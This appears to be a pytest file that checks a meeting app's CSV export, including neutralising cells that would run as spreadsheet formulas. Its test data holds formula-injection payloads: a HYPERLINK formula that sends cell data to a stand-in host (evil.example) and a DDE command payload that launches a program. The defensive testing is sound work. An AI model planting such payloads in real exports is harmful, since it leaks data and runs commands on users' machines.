"""CSV: one row per visible answer, and nothing a spreadsheet would run as a formula."""

import csv
import io

import pytest

from facilitator.answers.models import Answer
from facilitator.exports.report import build_report
from facilitator.exports.tabular import neutralise, to_csv
from facilitator.extensions import db
from facilitator.joining.models import Participant
from tests.exports.helpers import tiny_report

FORMULAS = {
    "csv-formula-01": '=HYPERLINK("https://evil.example/?leak="&A1,"Click")',
    "csv-formula-02": "+1",
    "csv-formula-03": "-2",
    "csv-formula-04": "@SUM(A1:A9)",
    "csv-formula-05": "＝1+1",
}


def rows_of(text: str) -> list[dict]:
    return list(csv.DictReader(io.StringIO(text)))


def test_one_row_per_visible_answer(held):
    h = held("named")
    rows = rows_of(to_csv(build_report(h.meeting())))
    assert len(rows) == 7
    wells = next(r for r in rows if r["answer"] == "Map every water point")
    assert wells["question_label"] == "Question 1" and wells["question"] == "Guiding question 1?"
    assert wells["round"] == "1" and wells["group"] == "Group 1" and wells["votes"] == "2"
    assert wells["created_at"].endswith("Z") and "T" in wells["created_at"]
    plenary = next(r for r in rows if r["answer"] == "Share the budget openly")
    assert plenary["round"] == "" and plenary["group"] == "Plenary"
    assert plenary["name"] == "Chen Wei" and plenary["organisation"] == "Harbour Institute"


def test_formula_cells_are_neutralised(held):
    h = held("named", extra_answers=FORMULAS)
    # Text that reached the database some other way, and a profile typed on a phone.
    db.session.get(Answer, h.answer_ids["Map every water point"]).text = "\tTabbed=1+1"
    db.session.get(Answer, h.answer_ids["Ask the women's groups first"]).text = "\r=cmd|' /C calc'!A0"
    db.session.get(Participant, h.participant_ids[0]).organisation = "@SUM(1+1)*cmd"
    db.session.commit()
    rows = rows_of(to_csv(build_report(h.meeting())))
    answers = {row["answer"] for row in rows}
    for text in FORMULAS.values():
        assert "'" + text in answers and text not in answers
    assert "'\tTabbed=1+1" in answers and "'\r=cmd|' /C calc'!A0" in answers
    assert {row["organisation"] for row in rows if row["name"] == "Amina Diallo"} == {"'@SUM(1+1)*cmd"}
    # Nothing in any cell starts a formula.
    for row in rows:
        assert not any(value.startswith(("=", "+", "-", "@", "\t", "\r")) for value in row.values())


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-2", "'-2"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("1-2", "1-2"),
        ("plain", "plain"),
        ("", ""),
    ],
)
def test_neutralise(value, expected):
    assert neutralise(value) == expected


def test_control_characters_cannot_hide_a_formula():
    rows = rows_of(to_csv(tiny_report("\x01=HYPERLINK(1)")))
    assert rows[0]["answer"] == "'=HYPERLINK(1)"
